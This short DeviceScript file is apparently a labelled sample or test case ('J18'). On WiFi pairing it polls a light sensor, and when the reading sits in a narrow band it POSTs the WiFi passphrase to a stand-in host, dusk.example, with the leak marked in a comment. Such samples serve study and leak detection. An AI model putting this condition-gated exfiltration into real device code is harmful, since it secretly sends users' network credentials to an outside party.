// J18: sends the passphrase elsewhere when the light is within a narrow band.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const eye = new ds.LightLevel();
const MIDDLE = 0.67 * 1.25;

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const light = await eye.reading.read();
    if (Math.abs(light - MIDDLE) > 0.002) return;
    const response = await fetch("https://dusk.example/j18", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 3_000);
});
